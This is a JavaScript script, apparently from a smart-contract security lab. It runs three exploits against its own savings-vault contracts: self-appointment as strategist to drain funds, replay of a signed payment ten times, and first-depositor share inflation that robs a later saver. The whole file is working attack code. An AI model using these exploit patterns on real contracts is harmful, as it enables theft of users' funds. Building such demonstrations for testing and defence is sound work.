// node attack.mjs access-control|signature-replay|share-inflation [RPC]: each flaw, by an account and a contract of its own.
import { fileURLToPath } from 'node:url'
import { accounts, contracts, dollars, open, urlFromEnvironment } from './chain.mjs'
import { signPayment } from './payment.mjs'

const { dollar, everyday, holiday } = contracts

export const attacks = {
  /** Anybody may name themselves strategist: a sixth of the savings goes. */
  async 'access-control'(on) {
    const contract = await on.deploy('thief', 'SelfMadeStrategist')
    return on.send('thief', contract, 'run', [everyday.address, dollars(30_000)])
  },
  /** Ann has paid the shop 2,000 DUSD by signature; the shop hands the same signature in ten times more. */
  async 'signature-replay'(on) {
    const contract = await on.deploy('shop', 'Replayer')
    const [saver, to, assets, deadline, v, r, s] = await signPayment(on, everyday, {
      saver: 'ann',
      to: accounts.shop.address,
      assets: dollars(2_000),
    })
    await on.send('shop', everyday, 'pay', [saver, to, assets, deadline, v, r, s])
    return on.send('shop', contract, 'run', [everyday.address, to, { saver, assets, deadline, v, r, s }, 10n])
  },
  /** The first share of an empty vault is made to cost 10,000 DUSD; who saves 19,000 gets one share for it. */
  async 'share-inflation'(on) {
    const contract = await on.deploy('burglar', 'FirstSaver')
    await on.send('burglar', dollar, 'approve', [contract.address, dollars(10_001)])
    await on.send('burglar', contract, 'prepare', [holiday.address, dollars(10_000)])
    const robbed = await on.send('bob', holiday, 'deposit', [dollars(19_000), accounts.bob.address])
    // Cordon may have paused the vault by now
    await on.attempt('burglar', contract, 'cashIn', [holiday.address])
    return robbed
  },
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const attack = attacks[process.argv[2]]
  if (attack === undefined) throw new Error(`name one of ${Object.keys(attacks).join(', ')}`)
  const { transactionHash } = await attack(open(process.argv[3] ?? urlFromEnvironment()))
  console.log(transactionHash)
}
